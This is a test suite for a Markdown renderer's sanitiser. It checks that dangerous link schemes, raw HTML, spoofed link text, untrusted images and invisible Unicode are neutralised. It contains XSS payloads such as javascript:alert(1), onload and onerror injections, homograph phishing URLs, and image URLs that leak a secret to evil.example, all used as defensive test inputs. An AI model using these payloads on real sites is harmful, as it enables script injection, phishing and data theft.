import { render as mount } from "@testing-library/react";
import * as fc from "fast-check";
import { describe, expect, test, vi } from "vitest";
import { Markdown, type MarkdownProps } from "../../../src/markdown/index.js";
import { elementsOf, render } from "./render.js";

/** The elements and attributes an answer may consist of. */
const ELEMENTS = new Set(
  "a bdi blockquote br button code del div em h3 h4 h5 h6 hr img input li ol p pre section span strong sup table tbody td th thead tr ul".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "alt aria-label aria-live checked class decoding dir disabled href id loading referrerpolicy rel role scope src start tabindex target title type".split(
    " ",
  ),
);

/** Whatever is not on the lists, or an address or class that no link or element of ours has. */
function forbiddenIn(html: string): string[] {
  const root = document.createElement("template");
  root.innerHTML = html;
  return [...root.content.querySelectorAll("*")].flatMap((element) => [
    ...(ELEMENTS.has(element.localName) ? [] : [element.localName]),
    ...[...element.attributes]
      .filter(({ name, value }) => !ATTRIBUTES.has(name) || !isAllowedValue(name, value))
      .map(({ name, value }) => `${name}=${value}`),
  ]);
}

function isAllowedValue(name: string, value: string): boolean {
  if (name === "href") return !/^(?!https?:|mailto:|tel:)[a-z][a-z0-9+.-]*:/i.test(value);
  if (name === "class")
    return /^(?:(?:osc-md[a-z-]*|language-[a-z0-9+#-]{1,32})(?: |$))+$/.test(value);
  return true;
}

/** Writes characters as entities, so that none of them is a mark. */
function asEntities(text: string): string {
  return text.replace(
    /[^a-z\d\uD800-\uDFFF]/gi,
    (char) => `&#x${char.charCodeAt(0).toString(16)};`,
  );
}

/** The links that addresses become. An address that is refused becomes none. */
function linksTo(destinations: readonly string[], baseUrl?: string): HTMLAnchorElement[] {
  const markdown = destinations.map((each) => `[x](<${asEntities(each)}>)`).join("\n\n");
  return [...elementsOf(render(markdown, { baseUrl })).querySelectorAll("a")];
}

function hrefOf(destination: string, baseUrl?: string): string | undefined {
  const [link] = linksTo([destination], baseUrl);
  return link?.getAttribute("href") ?? undefined;
}

/** What is left of a text in a block of code, where no character is a mark. */
function shownInCode(text: string): string | undefined {
  const code = elementsOf(render(`~~~\n${text}\n~~~`)).querySelector("code");
  return code?.textContent.replace(/\n$/, "");
}

describe("addresses", () => {
  test.each([
    ["https://a.example", "https://a.example/"],
    ["HTTPS://A.Example/%7ex?q=a b#ü", "https://a.example/%7ex?q=a%20b#%C3%BC"],
    ["http://a.example:80/../x", "http://a.example/x"],
    ["https://user:secret@a.example/", "https://a.example/"],
    ["https:\\\\a.example\\x", "https://a.example/x"],
    ["https:a.example", "https://a.example/"],
    [" \u0001ht\ttps://a.ex\nample ", "https://a.example/"],
    ["//a.example/x", "https://a.example/x"],
    ["/\\a.example", "https://a.example/"],
    ["https://ｅxample.com", "https://example.com/"],
    ["https://pаypal.com/login", "https://xn--pypal-4ve.com/login"],
    ["mailto:a@b.example", "mailto:a@b.example"],
    ["tel:+1-2", "tel:+1-2"],
    ['/x y?ü#"<>', "/x%20y?%C3%BC#%22%3C%3E"],
    ["x/../y", "x/../y"],
    ["./:x", "./:x"],
    ["#part", "#part"],
    ["?a=b", "?a=b"],
    ["", ""],
    ["a\\b?c\\d", "a/b?c\\d"],
    ["/x?y={z}^`#|{}", "/x?y={z}^`#|{}"],
    ["\\javascript:alert(1)", "/javascript:alert(1)"],
    ["\ud800", "%EF%BF%BD"],
  ])("the address %j becomes %j", (destination, href) => {
    expect(hrefOf(destination)).toBe(href);
  });

  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    " javascript:alert(1)",
    "vbscript:x",
    "data:text/html,x",
    "blob:https://a.example/x",
    "file:///etc/passwd",
    "ftp://a.example",
    "view-source:https://a.example",
    "intent://x",
    "ws://a.example",
    "about:blank",
    "a+b:c",
    "https://",
    "https://a b",
    "http://[::1",
  ])("the address %j makes no link", (destination) => {
    expect(hrefOf(destination)).toBeUndefined();
  });

  test.each([
    ["x", "https://a.example/b/x"],
    ["/x", "https://a.example/x"],
    ["//b.example", "https://b.example/"],
    ["javascript:x", undefined],
  ])("with a base URL, the address %j becomes %j", (destination, href) => {
    expect(hrefOf(destination, "https://a.example/b/c")).toBe(href);
  });

  test(
    "browsers read every accepted address with the scheme that was checked",
    { timeout: 60_000 },
    () => {
      const piece = fc.constantFrom(
        "javascript",
        "https",
        "data",
        "mailto",
        ":",
        "/",
        "//",
        "\\",
        "a.example",
        "@",
        "\t",
        "\n",
        " ",
        "\u0000",
        "%2f",
        "?",
        "#",
        "..",
        "&",
        "ü",
        "x",
      );
      const destination = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(""));
      fc.assert(
        fc.property(fc.array(destination, { minLength: 20, maxLength: 20 }), (destinations) => {
          for (const link of linksTo(destinations)) {
            const href = link.getAttribute("href") ?? "";
            const one = new URL(href, "https://page.example/a/b");
            const other = new URL(href, "http://other.example/");
            for (const { protocol } of [one, other])
              expect(protocol).toMatch(/^(?:https?|mailto|tel):$/);
            // Only a link without a host of its own leads to the page's host.
            const hasOwnHost = link.target === "_blank" || /^(?:mailto|tel):/.test(href);
            expect(one.host === other.host).toBe(hasOwnHost);
          }
        }),
        { numRuns: 250, seed: 4 },
      );
    },
  );

  test.each([
    "[x](javascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: <data:text/html,x>",
  ])("%j is shown as text without a link", (markdown) => {
    const html = render(markdown);
    expect(html).not.toContain("href");
    expect(forbiddenIn(html)).toEqual([]);
  });

  test("the address of a definition is checked once for all its references", () => {
    const urls = vi.spyOn(globalThis, "URL");
    render(`${"[a] ".repeat(100)}\n\n[a]: https://a.example`);
    const checks = urls.mock.calls.filter(([address]) => String(address).includes("a.example"));
    expect(checks).toHaveLength(1);
    urls.mockRestore();
  });

  test("links send no referrer and pass on no rank", () => {
    const [other, own] = linksTo(["https://b.example", "/b"]);
    expect(other?.rel).toBe("noopener noreferrer nofollow ugc");
    expect(other?.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(other?.target).toBe("_blank");
    expect(own?.hasAttribute("target")).toBe(false);
  });
});

describe("links whose text looks like an address", () => {
  const hostOf = (markdown: string) => / <bdi[^>]*>\((.*?)\)<\/bdi>/.exec(render(markdown))?.[1];

  test.each([
    ["[https://bank.example/login](https://evil.example/)", "evil.example"],
    ["[bank.example](https://evil.example:8443/)", "evil.example:8443"],
    ["[**bank**.example](https://evil.example/)", "evil.example"],
    ["[`bank.example`](https://evil.example/)", "evil.example"],
    ["[![bank.example](/x)](https://evil.example/)", "evil.example"],
    ["[Log in at bank。example](https://evil.example/)", "evil.example"],
    ["[b\u200Bank.example](https://evil.example/)", "evil.example"],
    ["[bank.example](https://bank.example.evil.example/)", "bank.example.evil.example"],
    ["[bank.example](https://bank.example@evil.example/)", "evil.example"],
    ["[help@bank.example](mailto:me@evil.example)", "me@evil.example"],
    ["[https://bank.example](tel:+123)", "+123"],
    ["[https://bank.example](/here)", "/here"],
    ["[127.0.0.1](https://evil.example/)", "evil.example"],
    ["[paypal](https://pаypal.com/login)", "xn--pypal-4ve.com"],
    ["https://pаypal.com/login", "xn--pypal-4ve.com"],
    ["<https://bank.example@evil.example/>", "evil.example"],
    ["https://bank.example@evil.example/", "evil.example"],
    ["[x bank.example][r]\n\n[r]: https://evil.example", "evil.example"],
    ["[bankꓸexample](https://evil.example/)", "evil.example"],
    ["[bank٠example](https://evil.example/)", "evil.example"],
    ["[bank۔example](https://evil.example/)", "evil.example"],
    ["[bank·example](https://evil.example/)", "evil.example"],
    ["[bank.example.1](https://evil.example/)", "evil.example"],
    [
      "[help@bank.example](mailto:help@bank.example.evil.example)",
      "help@bank.example.evil.example",
    ],
    ["[help@bank.example](mailto:other@bank.example)", "other@bank.example"],
    ["[bank.example](mailto:help@evil.example)", "help@evil.example"],
    [
      "[help@bank.example](mailto:help@bank.example?cc=me@evil.example)",
      "help@bank.example, me@evil.example",
    ],
    [
      "[Write to us](mailto:help@bank.example?BCC=me%40evil.example)",
      "help@bank.example, me@evil.example",
    ],
    ["[help@bank.example](mailto:?to=me@evil.example)", "me@evil.example"],
    [
      "[help@bank.example](mailto:help@bank.example,me@evil.example)",
      "help@bank.example, me@evil.example",
    ],
  ])("%s is followed by its real address", (markdown, host) => {
    expect(hostOf(markdown)).toBe(host);
  });

  test.each([
    "[our policy](https://shop.example/policy)",
    "[shop.example](https://shop.example/policy)",
    "[www.shop.example/policy](https://shop.example/policy)",
    "[Shop.Example](https://www.shop.example/)",
    "https://shop.example/x",
    "me@shop.example",
    "[me@shop.example](mailto:me@shop.example)",
    "[Write to first.last@shop.example.](mailto:first.last@Shop.example?subject=a.b)",
    "[The team of shop.example](mailto:me@shop.example)",
    "[the page](/here)",
  ])("%s names its own address, so no other follows", (markdown) => {
    expect(hostOf(markdown)).toBeUndefined();
  });
});

describe("images", () => {
  const prefixes = ["https://cdn.example/img/", "https://pics.example"];

  test.each([
    ["https://cdn.example/img/a.png", true],
    ["https://cdn.example/img/b/../a.png?x=1", true],
    ["https://CDN.example:443/img/a.png", true],
    ["https://pics.example/any.png", true],
    ["https://cdn.example/img", false],
    ["https://cdn.example/images/a.png", false],
    ["https://cdn.example/img/../a.png", false],
    ["https://cdn.example/img/%2e%2e/a.png", false],
    ["https://cdn.example/img/..%2fa.png", false],
    ["https://cdn.example/img/..%5ca.png", false],
    ["http://cdn.example/img/a.png", false],
    ["https://cdn.example:8443/img/a.png", false],
    ["https://cdn.example.evil.example/img/a.png", false],
    ["https://cdn.example@evil.example/img/a.png", false],
    ["https://user@cdn.example/img/a.png", false],
    ["//cdn.example/img/a.png", false],
    ["/img/a.png", false],
    ["data:image/png;base64,AAAA", false],
    ["blob:https://cdn.example/img/a", false],
    ["javascript:x", false],
  ])("the image %s may load: %j", (source, isAllowed) => {
    const image = `![x](<${asEntities(source)}>)`;
    expect(render(image, { allowedImagePrefixes: prefixes }).includes("<img")).toBe(isAllowed);
    expect(render(image)).not.toContain("<img");
  });

  test.each([
    "![a](https://evil.example/p.png?q=SECRET)",
    "![a][r]\n\n[r]: https://evil.example/p.png?q=SECRET",
    "[![a](https://evil.example/p.png?q=SECRET)](/x)",
    "<img src=https://evil.example/p.png?q=SECRET>",
    "![a](//evil.example/p.png?q=SECRET)",
  ])("no prefix of %s loads an image", (markdown) => {
    for (let end = 1; end <= markdown.length; end += 1)
      for (const isStreaming of [true, false])
        expect(
          render(markdown.slice(0, end), { isStreaming, allowedImagePrefixes: prefixes }),
        ).not.toMatch(/<img|<link/);
  });

  test("an allowed image loads lazily, tells no referrer and is not preloaded", () => {
    const text = "![a *b*](https://cdn.example/img/a.png 'T')";
    const html = render(text, { allowedImagePrefixes: prefixes });
    const [image] = elementsOf(html).querySelectorAll("img");
    const attributes = [...(image?.attributes ?? [])].map(({ name, value }) => [name, value]);
    expect(Object.fromEntries(attributes)).toEqual({
      class: "osc-md-image",
      src: "https://cdn.example/img/a.png",
      alt: "a b",
      title: "T",
      loading: "lazy",
      decoding: "async",
      referrerpolicy: "no-referrer",
    });
    expect(html).not.toMatch(/<link|preload|prefetch/);
  });

  test.each(["cdn.example", "/img/", "data:image/png", ""])(
    "the image prefix %j is reported together with the fix",
    (prefix) => {
      const report = vi.spyOn(console, "error").mockImplementation(() => {});
      mount(<Markdown text="a" allowedImagePrefixes={[prefix]} />);
      expect(report).toHaveBeenCalledExactlyOnceWith(
        expect.stringMatching(/write an absolute address/),
      );
      report.mockReset();
    },
  );
});

describe("text", () => {
  test.each([
    [
      "bidi overrides, embeddings, isolates and marks",
      "a\u202Eb\u2066c\u2069d\u200Ee\u061Cf",
      "abcdef",
    ],
    ["zero-width characters", "pass\u200Bword\u2060\uFEFF\u00AD", "password"],
    ["joiners between Latin letters", "pay\u200Dpal\u200C", "paypal"],
    ["tag characters", "hi\u{E0068}\u{E0069}", "hi"],
    ["variation selectors that carry data", "a\u{E0101}\u{E0142}", "a"],
    ["fillers that look like nothing", "a\u3164\u115Fb", "ab"],
    ["a grapheme joiner", "a\u034Fb", "ab"],
    ["selectors of Mongolian variants", "a\u180B\u180Fb", "ab"],
    ["variation selectors after letters and digits", "a\uFE0Fb1\uFE0F\uFE01", "ab1"],
    ["a second variation selector on an emoji", "❤\uFE0F\uFE0E\uFE0F", "❤\uFE0F"],
    ["unassigned characters that are ignorable", "a\uFFF0\u2065\u{E0FFF}b", "ab"],
    ["controls", "a\u0007\u001B[31mb\u0085", "a[31mb"],
    ["NUL and half characters", "\0 \uD800 \uDC00", "\uFFFD \uFFFD \uFFFD"],
    ["marks past the eighth", `z${"\u0301".repeat(50)}`, `z${"\u0301".repeat(8)}`],
  ])("the text loses %s", (_what, text, shown) => {
    expect(shownInCode(text)).toBe(shown);
  });

  test.each([
    "👩‍👩‍👧‍👦 👍🏽 ❤️‍🔥 🏳️‍🌈 1️⃣",
    "می‌خواهم",
    "क्‍ष क्‌ष",
    "שלום, עולם (2)",
    "مرحبا",
    "Ấn tượng, Łódź, naïve “quotes” – dashes…",
    "日本語、한국어、ไทย",
    "\tтекст\n",
    "👨🏿‍🦰",
  ])("the text keeps %s", (text) => {
    expect(shownInCode(text)).toBe(text);
  });

  test.each([
    ["in a paragraph", "a\u202Eb&#x202E;c"],
    ["in code", "`a\u202Eb`c"],
    ["in a block of code", "```\na\u202Eb\n```\nc"],
    ["in a link's text and title", "[a\u202E](/b 'c\u202E')"],
    ["in an image's text", "![a\u202E](/b)"],
    ["in a table", "|a\u202E|\n|-|"],
    ["escaped", "a\\\u202Eb"],
  ])("bidirectional controls are removed %s", (_where, markdown) => {
    expect(render(markdown)).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  });
});

describe("elements, attributes and classes", () => {
  test.each([
    ["js&#x20;xss", undefined],
    ["js xss", "language-js"],
    ["c++", "language-c++"],
    ["C#", "language-c#"],
    ["objective-c", "language-objective-c"],
    ["a\u00A0b", undefined],
    ['js"onclick=x', undefined],
    ["{.hidden}", undefined],
    ["x".repeat(33), undefined],
    ["js\\ xss", undefined],
  ])("a fence with the info string %j sets no class but a language's", (info, language) => {
    const html = render(`\`\`\`${info}\na\n\`\`\``);
    const expected = language ? `osc-md-code ${language}` : "osc-md-code";
    expect(/<code class="([^"]*)"/.exec(html)?.[1]).toBe(expected);
  });

  test.each([
    "# getElementById",
    "# Title {#id .class}",
    '<a id="body" name="cookie">x</a>',
    "[^__proto__]: x\n\n[^__proto__]",
    "[__proto__]: /x\n\n[__proto__] [constructor] [toString]",
    "|<b id=x>|\n|-|",
    "- [ ] <input name=attributes>",
    "<form action=//evil.example><button formaction=javascript:x>",
    "<svg onload=x><script>x</script></svg>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc=x>",
    '"onmouseover="x',
    "[a](/b \"c' onclick='x\")",
    '![a" onerror="x](/b)',
  ])("%s makes no element, attribute or id of its own", (markdown) => {
    const html = render(markdown, { allowedImagePrefixes: ["https://a.example"] });
    expect(forbiddenIn(html)).toEqual([]);
    for (const { id } of elementsOf(html).querySelectorAll("[id]"))
      expect(id).toMatch(/-(?:note|mark)-\d+$/);
  });

  test("raw HTML is shown as it is written", () => {
    const html = `<script>alert("1")</script> <b onclick='x'>bold</b> <!-- c --> <a href="*x*">`;
    const root = document.createElement("div");
    root.innerHTML = render(html);
    expect(root.textContent).toBe(html);
  });

  test(
    "random mixtures of marks and tags make only allowed elements and attributes",
    { timeout: 60_000 },
    () => {
      const piece = fc.constantFrom(
        ..."<>\"'`*_~[]()!#|-:&;\\/\n \t".split(""),
        "javascript:",
        "https://evil.example/",
        "data:x",
        "onerror=x",
        "<img src=x>",
        "![",
        "](",
        "&#x",
        "&quot;",
        "[^a]",
        "[^a]:",
        "```",
        "    ",
        "- ",
        "> ",
        "1. ",
        "[a]: ",
        "|-|-|\n",
        "a",
        "\u202E",
        "[1]",
      );
      const looks = fc.constantFrom<Omit<MarkdownProps, "text">>(
        {},
        { sources: [{ title: '\u202E"><b>', id: "s1" }] },
        { sources: [{ title: "a", url: "https://evil.example/" }], links: "sources" },
        { sources: [{ title: "a", url: "javascript:x" }], links: ["https://docs.example/"] },
      );
      fc.assert(
        fc.property(
          fc.array(piece, { maxLength: 60 }),
          fc.boolean(),
          looks,
          (pieces, isStreaming, props) => {
            const html = render(pieces.join(""), { isStreaming, ...props });
            expect(forbiddenIn(html)).toEqual([]);
            expect(html).not.toMatch(/<a [^>]*>(?:(?!<\/a>).)*<a /s);
          },
        ),
        { numRuns: 2_500, seed: 4 },
      );
    },
  );
});
